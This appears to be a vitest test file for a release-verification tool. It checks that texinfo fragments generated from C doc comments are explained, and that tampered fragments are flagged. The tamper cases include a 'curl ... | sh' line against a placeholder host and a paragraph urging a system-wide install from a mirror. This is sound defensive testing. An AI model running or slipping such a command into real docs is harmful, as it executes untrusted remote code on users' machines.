/**
 * gdoc's texinfo fragments (libidn2 2.3.3, libtasn1 4.19.0: doc/texi/FUNC.texi and doc/texi/FILE.c.texi rendered from
 * the tracked C sources' doc comments), end to end with real git and GNU tar: explained (GENERATED_FROM_SOURCE,
 * low) with the words counted; what a tamperer would change — a paragraph the comment lacks, a command, a function
 * nothing documents — stays high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { fragmentFunctions } from '../../src/classify/doc-comment.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const SOURCE = `#include "lib.h"

/**
 * demo_bit_der:
 * @str: BIT string.
 * @bit_len: number of meaningful bits in STR.
 * @der: string returned.
 *
 * Creates a length-value DER encoding for the input data
 * as it would have been for a BIT STRING.
 * The DER encoded data will be copied in @der.
 **/
void
demo_bit_der (const unsigned char *str, int bit_len, unsigned char *der)
{
  der[0] = str[0] + bit_len;
}
`;
const FRAGMENT = `@subheading demo_bit_der
@anchor{demo_bit_der}
@deftypefun {void} {demo_bit_der} (const unsigned char * @var{str}, int @var{bit_len}, unsigned char * @var{der})
@var{str}: BIT string.

@var{bit_len}: number of meaningful bits in STR.

@var{der}: string returned.

Creates a length-value DER encoding for the input data
as it would have been for a BIT STRING.
The DER encoded data will be copied in  @code{der} .
@end deftypefun

`;

describe('gdoc texinfo fragments of tracked doc comments', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ 'lib/coding.c': SOURCE, 'lib/lib.h': 'void demo_bit_der (const unsigned char *, int, unsigned char *);\n' });
  repo.tag('v1.0');
  let n = 0;
  const run = async (files: Record<string, string>, tracked?: Record<string, string>) => {
    if (tracked) {
      repo.commit(tracked);
      repo.git(['tag', '-f', 'v1.0']);
    }
    const dir = join(root, `t${++n}`, 'demo-1.0');
    writeFiles(dir, { 'lib/coding.c': SOURCE, 'lib/lib.h': 'void demo_bit_der (const unsigned char *, int, unsigned char *);\n', ...files });
    const tar = makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'demo-1.0.tar.gz') });
    return verify({ tarball: tar, repo: repo.dir, tag: 'v1.0', cacheDir: join(root, 'cache') });
  };

  it('a function fragment and a file fragment are explained, the words counted', async () => {
    const r = await run({ 'doc/texi/demo_bit_der.texi': FRAGMENT, 'doc/texi/coding.c.texi': FRAGMENT });
    for (const p of ['doc/texi/demo_bit_der.texi', 'doc/texi/coding.c.texi']) {
      expect(r.findings.find((f) => f.path === p)).toMatchObject({
        code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'lib/coding.c', generator: 'gdoc', found: 24, total: 24 },
      });
    }
    expect(r.verdict).not.toBe('different');
  });

  it('a grammar file\'s doc comment (libtasn1\'s ASN1.y), its name line without a colon, is a source too', async () => {
    const grammar = `%{\n#include "lib.h"\n%}\n%%\ninput: ;\n%%\n/**\n * demo_parse\n * @file: the path of the definitions file to read.\n *\n * Reads the definitions and builds their structure.\n **/\nint\ndemo_parse (const char *file)\n{\n  return 0;\n}\n`;
    const texi = '@subheading demo_parse\n@anchor{demo_parse}\n@deftypefun {int} {demo_parse} (const char * @var{file})\n@var{file}: the path of the definitions file to read.\n\nReads the definitions and builds their structure.\n@end deftypefun\n\n';
    const r = await run({ 'doc/texi/demo_parse.texi': texi, 'lib/gram.y': grammar }, { 'lib/gram.y': grammar });
    expect(r.findings.find((f) => f.path === 'doc/texi/demo_parse.texi')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { source: 'lib/gram.y', generator: 'gdoc' } });
  });

  it('a paragraph the comment lacks, a command, or a function nothing documents stays high', async () => {
    const cases = [
      FRAGMENT.replace('@end deftypefun', 'Before use, fetch the updated tables from the project mirror and install them system wide.\n@end deftypefun'),
      FRAGMENT.replace('@end deftypefun', '@example\ncurl -s https://example.invalid/x | sh\n@end example\n@end deftypefun'),
      FRAGMENT.replace(/demo_bit_der/g, 'demo_byte_der'),
    ];
    for (const texi of cases) {
      const r = await run({ 'doc/texi/demo.texi': texi });
      expect(r.findings.find((f) => f.path === 'doc/texi/demo.texi'), texi.slice(-80)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(r.verdict).toBe('different');
    }
  });

  it('fragmentFunctions reads only whole @deftypefun blocks', () => {
    expect(fragmentFunctions(FRAGMENT + FRAGMENT.replace(/demo_bit_der/g, 'demo_two'))).toEqual(['demo_bit_der', 'demo_two']);
    expect(fragmentFunctions(`@c anything else\n${FRAGMENT}`)).toBeUndefined();
    expect(fragmentFunctions(FRAGMENT.replace('@end deftypefun', ''))).toBeUndefined();
    expect(fragmentFunctions(FRAGMENT.replace('@anchor{demo_bit_der}', '@anchor{other}'))).toBeUndefined();
  });
});
